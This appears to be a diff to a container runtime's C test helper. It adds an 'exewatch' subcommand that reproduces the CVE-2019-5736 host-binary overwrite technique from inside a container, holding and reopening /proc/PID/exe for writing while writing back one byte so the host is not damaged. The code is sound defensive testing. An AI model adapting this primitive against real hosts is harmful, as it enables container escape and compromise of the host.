@@ -28,6 +28,18 @@
  *   multitool then CMD1 ... -- CMD2 ...   runs CMD1 as a child, then CMD2 in this process
  *   multitool open PATH           opens PATH read-only; prints "ok" or "errno NAME"
  *   multitool alloc MB            allocates and touches MB MiB, one MiB at a time; prints "allocated MB"
+ *   multitool exewatch WHO DIR [WANT]   CVE-2019-5736 with CAP_SYS_PTRACE, as an attacker in the container:
+ *                                 holds /proc/PID/exe of a runtime stage with O_PATH, and once DIR/go exists
+ *                                 (the stage has exited or exec'd its next stage) reopens it through
+ *                                 /proc/self/fd/N for writing. WHO: a pid, or "other" (the one process of the
+ *                                 pid namespace that is not this one), either once DIR/hold exists; or "next":
+ *                                 in rounds, the next pid the namespace gives out, caught as fast as it can be,
+ *                                 until its exe's path contains WANT, or is PATH for WANT "=PATH" (catch_wanted).
+ *                                 Writes DIR/held ("PID EXE") once it holds the fd, then DIR/result: "exe PATH",
+ *                                 "wronly ok|errno E",
+ *                                 "pwrite ok|errno E|-" (the byte at offset 0 written back: proof without
+ *                                 damage), "access ok|errno E" (W_OK), "trunc errno E|-" (O_RDWR|O_TRUNC, tried
+ *                                 only where it must fail: EROFS from access, or EPERM from pwrite).
  *   multitool hook FILE [N]       an OCI hook: appends one JSON line to FILE (argv, env, stdin, pid,
  *                                 cwd, open fds, mnt/pid/net ns links, mount points; and of the state's pid:
  *                                 root, exe, mnt ns, mount points), then exits with N (default 0)
@@ -269,6 +281,153 @@ static int cmd_write(const char *path, const char *text)
 	return result(r);
 }
 
+/* exewatch: files in DIR are the only way the test, a hook and this process talk. */
+static int exists_in(const char *dir, const char *name)
+{
+	char p[512];
+	snprintf(p, sizeof p, "%s/%s", dir, name);
+	return access(p, F_OK) == 0;
+}
+
+static void wait_in(const char *dir, const char *name)
+{
+	struct timespec ms = { 0, 1000000 };
+	while (!exists_in(dir, name))
+		nanosleep(&ms, NULL);
+}
+
+static void put_in(const char *dir, const char *name, const char *text)
+{
+	char tmp[512], p[512];
+	snprintf(tmp, sizeof tmp, "%s/.%s", dir, name);
+	snprintf(p, sizeof p, "%s/%s", dir, name);
+	FILE *f = fopen(tmp, "w");
+	if (!f) { perror(tmp); exit(1); }
+	fputs(text, f);
+	fclose(f);
+	rename(tmp, p);
+}
+
+static int pid_ns_last(void)
+{
+	char buf[32];
+	read_small("/proc/sys/kernel/ns_last_pid", buf, sizeof buf);
+	return atoi(buf);
+}
+
+/* The lowest pid in /proc other than this process. */
+static int other_pid(void)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	int best = 0;
+	while (d && (e = readdir(d))) {
+		int pid = atoi(e->d_name);
+		if (pid > 0 && pid != getpid() && (!best || pid < best)) best = pid;
+	}
+	if (d) closedir(d);
+	return best;
+}
+
+/* Spins on the pid the namespace gives out next until its exe opens; -1 once DIR/stop exists. */
+static int catch_next(const char *dir, const char *stop, int *pid)
+{
+	char p[64];
+	*pid = pid_ns_last() + 1;
+	snprintf(p, sizeof p, "/proc/%d/exe", *pid);
+	for (unsigned long i = 1;; i++) {
+		int fd = open(p, O_PATH | O_CLOEXEC);
+		if (fd >= 0) return fd;
+		if (i % 4096 == 0 && exists_in(dir, stop)) return -1;
+	}
+}
+
+static void fd_target(int fd, char *exe, size_t n)
+{
+	char p[64];
+	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+	ssize_t r = readlink(p, exe, n - 1);
+	exe[r < 0 ? 0 : r] = 0;
+}
+
+/* want: a part of the exe's path, or "=PATH" for the whole of it. */
+static int wanted(const char *exe, const char *want)
+{
+	return want[0] == '=' ? !strcmp(exe, want + 1) : strstr(exe, want) != NULL;
+}
+
+/* Rounds: writes DIR/ready ("ROUND"), catches the next pid, writes DIR/seen-ROUND (its exe, or
+ * "missed" once DIR/done-ROUND exists first); a catch whose exe is wanted is held ("held PID
+ * EXE" in seen-ROUND and held), else the next round starts after DIR/done-ROUND. */
+static int catch_wanted(const char *dir, const char *want, int *pid)
+{
+	char exe[256], name[32], num[16], seen[320];
+	for (int round = 0;; round++) {
+		snprintf(num, sizeof num, "%d", round);
+		snprintf(name, sizeof name, "done-%d", round);
+		put_in(dir, "ready", num);
+		int fd = catch_next(dir, name, pid);
+		if (fd >= 0) fd_target(fd, exe, sizeof exe);
+		if (fd < 0) snprintf(seen, sizeof seen, "missed\n");
+		else if (wanted(exe, want)) snprintf(seen, sizeof seen, "held %d %s\n", *pid, exe);
+		else snprintf(seen, sizeof seen, "%s\n", exe);
+		snprintf(name, sizeof name, "seen-%d", round);
+		put_in(dir, name, seen);
+		if (fd >= 0 && wanted(exe, want)) return fd;
+		if (fd >= 0) close(fd);
+		snprintf(name, sizeof name, "done-%d", round);
+		wait_in(dir, name);
+	}
+}
+
+static const char *attempt(int r)
+{
+	static char buf[8][32];
+	static int n;
+	char *b = buf[n++ % 8];
+	snprintf(b, 32, r < 0 ? "errno %s" : "ok", errname(errno));
+	return b;
+}
+
+static int cmd_exewatch(const char *who, const char *dir, const char *want)
+{
+	char p[64], exe[256] = "", held[320], res[1024];
+	int pid, fd;
+	if (!strcmp(who, "next")) {
+		fd = catch_wanted(dir, want ? want : "", &pid);
+	} else {
+		wait_in(dir, "hold");
+		pid = !strcmp(who, "other") ? other_pid() : atoi(who);
+		snprintf(p, sizeof p, "/proc/%d/exe", pid);
+		fd = open(p, O_PATH | O_CLOEXEC);
+		if (fd < 0) { snprintf(held, sizeof held, "open %s: errno %s\n", p, errname(errno)); put_in(dir, "held", held); return 1; }
+	}
+	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+	fd_target(fd, exe, sizeof exe);
+	snprintf(held, sizeof held, "%d %s\n", pid, exe);
+	put_in(dir, "held", held);
+	wait_in(dir, "go");
+	/* The byte at offset 0 read through a read-only reopen and written back: a successful
+	 * write proves the attack without damaging the host's binary. access(W_OK) tells a read-only
+	 * mount or filesystem (EROFS) from a file that is only busy now (ETXTBSY), without opening it.
+	 * O_TRUNC is tried only where it is known to fail: a read-only mount, or a sealed file. */
+	unsigned char byte = 0;
+	int ro = open(p, O_RDONLY | O_CLOEXEC);
+	if (ro >= 0) { if (pread(ro, &byte, 1, 0) != 1) byte = 0x7f; close(ro); }
+	int w = open(p, O_WRONLY | O_CLOEXEC);
+	const char *wronly = attempt(w), *pw = "-", *trunc = "-";
+	if (w >= 0) { pw = attempt(pwrite(w, &byte, 1, 0) == 1 ? 0 : -1); close(w); }
+	const char *acc = attempt(access(p, W_OK));
+	if (!strcmp(acc, "errno EROFS") || !strcmp(pw, "errno EPERM")) {
+		int t = open(p, O_RDWR | O_TRUNC | O_CLOEXEC);
+		trunc = attempt(t);
+		if (t >= 0) close(t);
+	}
+	snprintf(res, sizeof res, "exe %s\nwronly %s\npwrite %s\naccess %s\ntrunc %s\n", exe, wronly, pw, acc, trunc);
+	put_in(dir, "result", res);
+	return 0;
+}
+
 static volatile sig_atomic_t got;
 static void on_signal(int s) { got = s; }
 
@@ -484,6 +643,7 @@ static int run(int argc, char **argv)
 	if (!strcmp(c, "true")) return 0;
 	if (!strcmp(c, "open") && argc > 1) { int fd = open(argv[1], O_RDONLY | O_CLOEXEC); int r = result(fd); if (fd >= 0) close(fd); return r; }
 	if (!strcmp(c, "alloc") && argc > 1) return cmd_alloc(atol(argv[1]));
+	if (!strcmp(c, "exewatch") && argc > 2) return cmd_exewatch(argv[1], argv[2], argc > 3 ? argv[3] : NULL);
 	if (!strcmp(c, "hook") && argc > 1) return cmd_hook(argv[1], argc > 2 ? atoi(argv[2]) : 0);
 	if (!strcmp(c, "echo")) {
 		for (int i = 1; i < argc; i++) printf("%s%s", i > 1 ? " " : "", argv[i]);
